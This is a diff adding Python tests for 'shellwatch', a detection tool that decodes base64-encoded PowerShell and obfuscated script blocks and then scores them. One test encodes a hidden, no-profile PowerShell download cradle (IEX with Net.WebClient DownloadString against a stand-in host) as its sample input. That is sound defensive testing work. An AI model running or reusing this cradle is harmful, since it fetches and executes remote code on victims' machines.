@@ -1,0 +1,48 @@
+"""The decode tagger on events: decoded text, layers, score; and the second detection pass end to end."""
+
+from __future__ import annotations
+
+import base64
+
+from shellwatch.decode.commandline import CommandDecoder, platform_of
+from shellwatch.events import Event
+
+
+def _event(line: str, os_type: str | None = "linux") -> Event:
+    event: Event = {"process.command_line": line, "event.category": ["process"], "event.type": ["start"]}
+    if os_type is not None:
+        event["host.os.type"] = os_type
+    return event
+
+
+def test_an_encoded_command_gets_its_decoded_text_layers_and_score() -> None:
+    encoded = base64.b64encode(
+        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")
+    )
+    event = _event(f"powershell.exe -nop -w hidden -enc {encoded.decode()}", "windows")
+    CommandDecoder()(event)
+    assert event["shellwatch.decoded.command_line"] == (
+        "powershell.exe -nop -w hidden -Command IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
+    )
+    assert event["shellwatch.decoded.layers"] == ["powershell-encodedcommand"]
+    assert isinstance(event["shellwatch.obfuscation.score"], int)
+    assert event["shellwatch.obfuscation.score"] >= 35
+
+
+def test_plain_commands_are_left_as_they_are() -> None:
+    event = _event("ls -la /tmp")
+    CommandDecoder()(event)
+    assert set(event) == {"process.command_line", "event.category", "event.type", "host.os.type"}
+
+
+def test_script_blocks_are_decoded_too() -> None:
+    event: Event = {"powershell.file.script_block_text": "iex ('Get-'+'Process')"}
+    CommandDecoder()(event)
+    assert event["shellwatch.decoded.script_block_text"] == "Get-Process"
+
+
+def test_platform() -> None:
+    assert platform_of({"host.os.type": "windows"}) == "windows"
+    assert platform_of({"process.executable": "C:\\Windows\\System32\\cmd.exe"}) == "windows"
+    assert platform_of({"process.executable": "/usr/bin/bash"}) == "unix"
+    assert platform_of({}) is None
